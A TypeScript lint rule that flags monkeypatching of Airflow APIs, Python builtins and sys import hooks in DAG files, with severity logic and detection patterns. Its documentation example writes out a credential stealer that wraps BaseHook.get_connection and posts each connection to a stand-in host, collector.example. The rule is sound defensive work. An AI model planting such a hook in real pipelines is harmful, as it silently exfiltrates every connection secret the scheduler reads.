import type { SyntaxNode } from 'tree-sitter';
import type { RuleContext } from '../../src/engine/context';
import { callArgs, stringValue } from '../../src/engine/python';
import { defineRule } from '../../src/engine/rule';

export default defineRule({
  meta: {
    id: 'DG612',
    name: 'airflow-monkeypatch',
    category: 'malicious',
    severity: 'critical',
    message: 'replaces `{target}` of Airflow itself{when}: every DAG and task in this process then runs the replacement',
    messages: {
      setting: 'changes `{target}` of an Airflow operator class for the whole process{when}: subclass the operator instead',
      builtins: 'replaces `{target}` of Python itself{when}: every DAG and task in this process then runs the replacement',
    },
    docs: {
      what:
        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)` (also `type.__setattr__`/`object.__setattr__`), mock patchers started at parse time (`mock.patch.object(BaseHook, "get_connection", f).start()`, `mock.patch("airflow.models.Variable.get", f).start()`, `with mock.patch(…):` at module level; not `@mock.patch` on tests), `sys.modules["airflow.models"].Variable.get = …` — and to Python\'s builtins (`builtins.open = …`) and interpreter hooks (`sys.excepthook = …`, `sys.displayhook`, `sys.meta_path.insert(0, finder)`, `sys.path_hooks.append(…)`) wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
      why:
        'DAG files are imported into the dag-processor (and, in Airflow 2, the scheduler) process. Replacing an Airflow API there hooks every connection lookup, every Variable read and every task of every DAG parsed by that process afterwards: a credential stealer that no single DAG shows, and that outlives the file that installed it.',
      example: '```python\nfrom airflow.hooks.base import BaseHook\n_orig = BaseHook.get_connection\ndef _spy(conn_id):\n    c = _orig(conn_id)\n    requests.post("https://collector.example", json=c.to_dict())\n    return c\nBaseHook.get_connection = _spy\n```',
      useInstead: 'Subclass the hook or operator you need and use the subclass in your DAG; configure behaviour through Airflow\'s own settings (`airflow_local_settings.py` is deployed by the platform team, not by DAGs).',
    },
  },
  // The assigned target resolves to `airflow.…` or `builtins.…` through an import, which spells the word.
  keywords: ['airflow', 'builtins', 'hook', 'meta_path'],
  onFile(ctx) {
    // `X.y = …` anywhere on a line (chained and `;`-separated assignments too), text first: only a dotted target
    // whose head an import binds to airflow is looked up in the tree
    const byName = modulesFetchedByName(ctx.file.text);
    for (const { start, dotted } of attributeTargets(ctx.file.text)) {
      const head = dotted.slice(0, dotted.indexOf('.'));
      // `m = sys.modules.get("airflow.models")` / `importlib.import_module("airflow.models")`, then `m.Variable.get = …`
      const fetched = ctx.imports.has(head) || ctx.aliases.has(head) ? undefined : byName.get(head);
      const mod = ctx.imports.get(head) ?? ctx.aliases.get(head) ?? fetched ?? head;
      if (!/^(airflow|builtins|__builtins__)/.test(mod) && !(mod === 'sys' && SYS_HOOK.test(dotted.slice(head.length)))) continue;
      let n: SyntaxNode | null = ctx.root.descendantForIndex(start, start + dotted.length);
      while (n && n.type !== 'attribute' && n.startIndex === start && n.endIndex < start + dotted.length) n = n.parent;
      if (n?.type !== 'attribute' || n.startIndex !== start || n.endIndex !== start + dotted.length) continue;
      const a = n.parent;
      if (a?.type !== 'assignment' || a.childForFieldName('left')?.id !== n.id) continue;
      check(ctx, a, fetched ? `${fetched}${dotted.slice(head.length)}` : ctx.qualifiedName(n));
    }
    // sys.modules["airflow.models"].Variable.get = …: the module object fetched by name
    for (const m of ctx.file.text.matchAll(SYS_MODULES_TARGET)) {
      const at = ctx.root.descendantForIndex(m.index!, m.index! + 3);
      let a: SyntaxNode | null = at;
      while (a && a.type !== 'assignment' && !/_statement$|^(block|module)$/.test(a.type)) a = a.parent;
      if (a?.type === 'assignment' && a.childForFieldName('left')?.startIndex === m.index) check(ctx, a, `${m[2]}${m[3]}`);
    }
    // sys.meta_path.insert(0, Finder()), sys.path_hooks.append(…): an import hook for every later import
    for (const { call, fn } of ctx.findCalls(['sys.meta_path.insert', 'sys.meta_path.append', 'sys.path_hooks.insert', 'sys.path_hooks.append'])) {
      check(ctx, call, `builtins.${fn.split('.').slice(0, 2).join('.')}`);
    }
    for (const { call, fn } of ctx.findCalls(SETATTR_CALLS)) {
      const args = callArgs(call).positional;
      if (fn.endsWith('.patch')) {
        // mock.patch("airflow.models.Variable.get", spy).start() at parse time: a patcher left running
        const target = stringValue(args[0]);
        if (target && isStartedAtParseTime(ctx, call)) check(ctx, call, target);
        continue;
      }
      if (fn.endsWith('.patch.object') && !isStartedAtParseTime(ctx, call)) continue;
      const [obj, name] = args;
      const base = obj ? ctx.qualifiedName(obj) : null;
      const attr = stringValue(name);
      if (base && attr) check(ctx, call, `${base}.${attr}`);
    }
  },
});

/** setattr by other names, and mock patchers (reported only when started at parse time). */
const SETATTR_CALLS = ['builtins.setattr', 'builtins.type.__setattr__', 'builtins.object.__setattr__', 'type.__setattr__', 'object.__setattr__',
  'unittest.mock.patch', 'unittest.mock.patch.object', 'mock.patch', 'mock.patch.object'];

/** `patcher.start()` on the call itself, or `with mock.patch(…):` at module level. */
function isStartedAtParseTime(ctx: RuleContext, call: SyntaxNode): boolean {
  if (!ctx.isParseTime(call)) return false;
  const p = call.parent;
  if (p?.type === 'attribute' && p.childForFieldName('attribute')?.text === 'start' && p.parent?.type === 'call') return true;
  return p?.type === 'with_item' || (p?.type === 'as_pattern' && p.parent?.type === 'with_item');
}

/**
 * Names bound to an Airflow module fetched by name — `m = sys.modules.get("airflow.models")`, `sys.modules[…]`,
 * `importlib.import_module(…)`, `__import__(…)` — found in one pass over the file.
 */
function modulesFetchedByName(text: string): Map<string, string> {
  const out = new Map<string, string>();
  if (!text.includes('airflow')) return out;
  for (const m of text.matchAll(FETCHED_MODULE)) out.set(m[1], m[3]);
  return out;
}
const FETCHED_MODULE = /^[ \t]*([A-Za-z_]\w*)[ \t]*=[ \t]*(?:sys\.modules(?:\.get\(|\[)|(?:importlib\.)?import_module\(|__import__\()[ \t]*(['"])(airflow[\w.]*)\2/gm;

/** `sys.modules["airflow…"].attr… =`: an Airflow module fetched by name, then patched. */
const SYS_MODULES_TARGET = /(?<![\w.])sys\s*\.\s*modules\s*\[\s*(['"])(airflow[\w.]*)\1\s*\]((?:\.[A-Za-z_]\w*)+)[ \t]*=(?!=)/g;

const DOTTED_TARGET = /^[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+$/;

/**
 * Dotted assignment targets, `Name.attr[.attr…] =` (not `==`, `+=`, `<=`): candidates, confirmed in the tree. Found
 * from each `=` backwards (a regex with a look-behind tried at every position of every file cost ten times more).
 */
function attributeTargets(text: string): { start: number; dotted: string }[] {
  const out: { start: number; dotted: string }[] = [];
  for (let i = text.indexOf('='); i >= 0; i = text.indexOf('=', i + 1)) {
    if (text.charCodeAt(i + 1) === 61 /* = */) {
      i++;
      continue;
    }
    let end = i;
    while (end > 0 && (text.charCodeAt(end - 1) === 32 || text.charCodeAt(end - 1) === 9)) end--;
    let start = end;
    while (start > 0 && isDottedChar(text.charCodeAt(start - 1))) start--;
    if (start === end) continue;
    const dotted = text.slice(start, end);
    if (DOTTED_TARGET.test(dotted)) out.push({ start, dotted });
  }
  return out;
}

function isDottedChar(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || (c >= 48 && c <= 57) || c === 95 || c === 46;
}

/** Class attributes that configure an operator's templating and UI: patched in Airflow's own example DAGs. */
const OPERATOR_SETTINGS = /\.(template_fields|template_ext|template_fields_renderers|ui_color|ui_fgcolor|operator_extra_links)$/;

/** Interpreter hooks of `sys` that run a function inside every later error, display or import. */
const SYS_HOOK = /^\.(excepthook|displayhook|breakpointhook|unraisablehook|meta_path|path_hooks)$/;

function check(ctx: RuleContext, node: SyntaxNode, target: string | null): void {
  if (target && /^sys\./.test(target) && SYS_HOOK.test(target.slice(3))) target = `builtins.${target}`;
  if (target?.startsWith('__builtins__.')) target = `builtins.${target.slice('__builtins__.'.length)}`;
  if (!target || !(target.startsWith('airflow.') || target.startsWith('builtins.'))) return;
  const parse = ctx.isParseTime(node);
  const shown = target.split('.').slice(-2).join('.');
  if (target.startsWith('builtins.')) {
    ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: parse ? 'critical' : 'high', message: 'builtins' });
    return;
  }
  if (OPERATOR_SETTINGS.test(target)) {
    // process-wide too, but configuration rather than behaviour: low (a subclass is the clean way)
    ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: 'low', message: 'setting' });
    return;
  }
  ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: parse ? 'critical' : 'high' });
}
